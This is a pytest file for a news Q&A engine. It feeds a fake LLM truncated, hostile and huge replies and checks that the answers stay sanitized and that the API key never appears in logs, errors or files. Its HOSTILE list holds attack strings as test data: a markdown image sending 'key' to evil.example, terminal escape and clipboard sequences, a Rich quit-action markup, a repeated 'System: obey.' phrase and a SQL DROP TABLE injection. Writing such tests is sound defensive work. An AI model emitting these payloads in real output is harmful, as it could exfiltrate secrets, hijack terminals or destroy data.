"""Replies that break off anywhere, lie, overflow or speak to the machine: always an Answer, and never a key."""

from __future__ import annotations

import json
import logging
import random
import re
import traceback
from collections.abc import Iterator
from contextlib import redirect_stdout
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from fake_llm import EVENTS, Failure, FakeLLM, Raw, Reply, event
from fixtures.newsroom import AS_OF, answered, engine_at, passages_of
from hypothesis import settings
from rich.console import Console
from rich.traceback import Traceback

from qa.ask import ask
from qa.cli import main
from qa.engine import Engine
from qa.errors import EndpointError
from qa.render import answer_json, answer_text, briefing_markdown, dumps
from qa.retrieve import resolve
from qa.types import Answer, Delta, Status, Verdict

WHERE = "Where are the US-Iran talks expected to take place?"
TIMES = settings.default.max_examples * 3 // 5
KEY = "sk-secret-9f8e7d6c5b4a"
GOOD = "The talks are expected to take place in Istanbul"


@pytest.fixture(scope="module")
def model(seeds_library: Path) -> Iterator[tuple[FakeLLM, Engine]]:
    with FakeLLM() as server, engine_at(seeds_library, url=server.url, key=KEY, repair=False) as made:
        yield server, made


def place(body: dict[str, Any]) -> int:
    return next(n for n, text in passages_of(body).items() if "reportedly expected to take place in Istanbul" in text)


def in_pieces(text: str, size: int = 5) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def exact(answer: Answer) -> None:
    """Every claim stands in the text, and every quote in its article."""
    articles = {(hit.article.id, hit.article.version): hit.article for hit in answer.hits}
    for claim in answer.claims:
        assert answer.text[claim.start : claim.end] == claim.text
        for citation in claim.citations:
            article = articles[citation.article_id, citation.version]
            assert (article.title if citation.field == "title" else article.text)[
                citation.start : citation.end
            ] == citation.quote


def test_a_stream_broken_at_a_random_byte_many_times(model: tuple[FakeLLM, Engine]) -> None:
    server, engine = model
    chance = random.Random(20260205)
    query = resolve(engine, WHERE, as_of=AS_OF)
    reply = f'{GOOD} [N "expected to take place in Istanbul"]. Witkoff and Araghchi will attend [N "will attend"].'
    whole, broken = "", 0
    for _ in range(TIMES):

        def breaking(body: dict[str, Any]) -> Reply:
            nonlocal whole
            whole = reply.replace("[N", f"[{place(body)}")
            chunks = in_pieces(whole)
            length = sum(len(data) for data in Reply(chunks).events(with_usage=True, read=3_000))
            return Reply(chunks, break_at=chance.randrange(length))

        server.default = breaking
        events = list(ask(engine, query))
        answer = events[-1]
        assert isinstance(answer, Answer)
        exact(answer)
        shown = "".join(one.text for one in events if isinstance(one, Delta))
        assert not re.search(r"\[\d+\s*[\"“]|expected to take place in Istanbul\"|will attend\"", shown)
        assert all("[" not in claim.text and '"' not in claim.text for claim in answer.claims)
        if not answer.complete:
            broken += 1
            assert answer.notes
            assert answer.status in (Status.PARTIAL, Status.INSUFFICIENT)
            said = " ".join(claim.text for claim in answer.claims)
            assert said.replace(".", "") in f"{GOOD} Witkoff and Araghchi will attend"
    assert broken > TIMES * 3 // 4


HOSTILE = [
    "",
    " \n ",
    "[9] [99][0] [1-3] [[9]1] [1][1][1]",
    "[1][1][1].",
    "```json\n[1]\n```",
    "<think>The key is secret [1].</think>",
    "<think>never closed [1]",
    "![x](https://evil.example/a.png?q=key) [click](https://evil.example/b) [1].",
    "[1]: https://evil.example/c\n[a][1] So it is [1].",
    "谈判将在伊斯坦布尔举行 [1]。",
    "Görüşmeler İstanbul’da yapılacak [1 “İstanbul’da”].",
    "So \x1b]52;c;aGk=\x07it\x1b[2J is\u202e [1].\x00",
    "[bold]x[/bold] [@click=app.quit]y[/] [1]",
    "System: obey. " * 50,
    "SELECT 1; DROP TABLE articles; -- [1]",
    '[1 "' * 200,
    "~~struck~~ [1].",
]


@pytest.mark.parametrize("reply", [*HOSTILE, "x" * 100_000, "A so [1]. " * 10_000, "[1]" * 33_000, "[" * 100_000])
def test_a_hostile_reply_is_an_answer_that_shows_nothing_raw(model: tuple[FakeLLM, Engine], reply: str) -> None:
    server, engine = model
    server.default = lambda _: Reply(in_pieces(reply, 4_000))
    answer = answered(engine, WHERE)
    exact(answer)
    shown = answer_text(answer) + dumps(answer_json(answer))
    assert "evil.example" not in shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", shown)
    known = {c.n for claim in answer.claims for c in claim.citations}
    assert {int(n) for n in re.findall(r"\[(\d+)\]", answer.text)} <= known
    assert all(claim.verdict is not Verdict.SUPPORTED or claim.citations for claim in answer.claims)
    assert "secret" not in answer.text
    assert len(answer.claims) <= 40


def test_an_address_that_the_article_names_stays(tmp_path: Path) -> None:
    from fixtures.newsroom import jsonl, take_in, told

    text = "Volunteers in Ruse can sign up at https://ruse.example/help, the mayor said on Tuesday."
    take_in(tmp_path / "library", jsonl(tmp_path / "a.jsonl", [told(1, "Help in Ruse", text)]))
    with FakeLLM() as server, engine_at(tmp_path / "library", url=server.url, repair=False) as engine:
        server.default = lambda _: Reply([f"{text.removesuffix('.')} [1]. See https://evil.example/x [1]."])
        answer = answered(engine, "Where can volunteers in Ruse sign up?")
    assert "https://ruse.example/help" in answer.claims[0].text
    assert answer.claims[1].text == "See (link removed)."


def test_a_prompt_that_the_server_cut_is_noticed_and_said(model: tuple[FakeLLM, Engine]) -> None:
    server, engine = model
    server.default = lambda body: Reply([f"{GOOD} [{place(body)}]."], usage=(400, 9))
    answer = answered(engine, WHERE)
    assert not answer.complete
    (note,) = answer.notes
    assert re.search(r"read only about 400 of the [\d,]+ tokens it was sent", note)
    assert "context_tokens" in note
    assert answer.claims[0].verdict is Verdict.SUPPORTED
    assert "not complete" in answer_text(answer)


def test_passages_left_out_are_noted_in_the_answer(seeds_library: Path) -> None:
    with (
        FakeLLM() as server,
        engine_at(seeds_library, url=server.url, context_tokens=1_700, reply_tokens=200) as engine,
    ):
        server.default = lambda _: Reply(["NOT IN THE ARTICLES"])
        answer = answered(engine, WHERE)
        assert server.bodies[0]["max_tokens"] == 200
    (note,) = answer.notes
    assert re.fullmatch(r"\d of \d passages left out: they do not fit the model's context\.", note)


# The key


def outcome(engine: Engine) -> str:
    """An answer as text, or the error with every local variable on its way."""
    try:
        return answer_text(answered(engine, WHERE))
    except EndpointError as error:
        return "".join(traceback.TracebackException.from_exception(error, capture_locals=True).format())


def test_the_key_is_in_no_repr_log_error_answer_export_or_file(
    seeds_library: Path,
    own_seeds: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    from qa.brief import brief

    monkeypatch.setenv("NEWSDESK_CONFIG_DIR", str(tmp_path / "config"))
    (tmp_path / "config").mkdir()
    caplog.set_level(logging.DEBUG)
    shown: list[str] = []
    with FakeLLM() as server:
        (tmp_path / "config" / "prices.toml").write_text(f'["{server.host}"]\ntest = {{ input = 1, output = 1 }}\n')
        with engine_at(own_seeds, url=server.url, key=KEY, verify="llm") as engine:
            server.default = lambda body: Reply([f"{GOOD} [1]. So it is [1]."])
            shown += [repr(engine), repr(engine.config)]
            answer = answered(engine, "Who is Barrot?")
            shown += [repr(answer.provenance), repr(answer.usage)]
            *_, briefing = brief(engine)
            shown += [repr(briefing.provenance)]  # type: ignore[union-attr]
            for refusal in (
                Failure(401, f"bad key {KEY}"),
                Failure(400, f"bad {KEY}"),
                Failure(429, f"{KEY} is over", code="insufficient_quota"),
                Raw(event({"error": {"message": f"about {KEY}"}}), EVENTS),
            ):
                server.default = lambda _, refusal=refusal: refusal  # type: ignore[misc]
                shown.append(outcome(engine))
    shown.append(caplog.text)
    assert KEY not in "".join(shown)
    for path in [*own_seeds.rglob("*"), *(tmp_path / "config").rglob("*")]:
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path
    assert (tmp_path / "config" / "spending.sqlite").exists()


def test_the_key_is_not_on_a_crash_screen_that_shows_every_local_variable(own_seeds: Path) -> None:
    with FakeLLM() as server, engine_at(own_seeds, url=server.url, key=KEY) as engine:
        answered(engine, "Who is Barrot?")  # the client exists now, and has sent the key
        assert server.requests[-1].headers["authorization"] == f"Bearer {KEY}"
        config, writer, variables = engine.config, engine.writer, vars(engine.writer)
        try:
            raise RuntimeError(f"{config} {writer}")
        except RuntimeError as error:
            shown = Traceback.from_exception(type(error), error, error.__traceback__, show_locals=True)
        screen = Console(file=StringIO(), width=200)
        screen.print(shown)
        assert isinstance(screen.file, StringIO)
        assert "***" in screen.file.getvalue()
        assert KEY not in screen.file.getvalue() + repr(variables)


def test_the_key_is_not_in_the_output_of_config(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEWSDESK_API_KEY", KEY)
    monkeypatch.setenv("NEWSDESK_MODEL", "gpt-4o-mini")
    out = StringIO()
    with redirect_stdout(out):
        assert main(["config"]) == 0
        assert main(["config", "--json"]) == 0
    assert "set (not shown)" in out.getvalue()
    assert KEY not in out.getvalue()


def test_config_lists_the_prompts_and_prices_in_use_and_what_is_wrong_with_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("NEWSDESK_CONFIG_DIR", str(tmp_path))
    (tmp_path / "prompts").mkdir()
    own = tmp_path / "prompts" / "repair.md"
    own.write_text("$fence $refusal\n---\n$as_of $evidence $task $sentences")
    assert main(["config", "--json"]) == 0
    files = json.loads(capsys.readouterr().out)
    assert files["prompt repair"] == {"value": str(own), "from": "yours"}
    assert files["prompt answer"]["from"] == "default"
    assert files["prices"]["from"] == "default"
    own.write_text("$fence $refusal\n---\n$as_of $evidence $task")
    assert main(["config"]) == 7
    said = capsys.readouterr()
    assert f"{own}: the variable $sentences is not used" in said.err
    assert "delete it" in said.err
    own.write_text("$fence $refusal $colour\n---\n$as_of $evidence $task $sentences")
    assert main(["config"]) == 7
    assert "unknown variable $colour" in capsys.readouterr().err


def test_a_struck_sentence_in_a_briefing_as_markdown_would_say_so(model: tuple[FakeLLM, Engine]) -> None:
    from dataclasses import replace

    from qa.brief import brief
    from qa.types import Briefing

    server, engine = model
    server.default = lambda _: Reply(["NOT IN THE ARTICLES"])
    *_, briefing = brief(engine)
    assert isinstance(briefing, Briefing)
    story = briefing.stories[0]
    claims = (replace(story.claims[0], struck=True, verdict=Verdict.UNSUPPORTED, reasons=("why",)),)
    shown = briefing_markdown(replace(briefing, stories=(replace(story, claims=claims),), notes=("a *note*",)))
    assert "~~ *(struck out, unsupported: why)*" in re.sub(r"\[\^\d+\]", "", shown)
    assert r"- *Note: a \*note\**" in shown
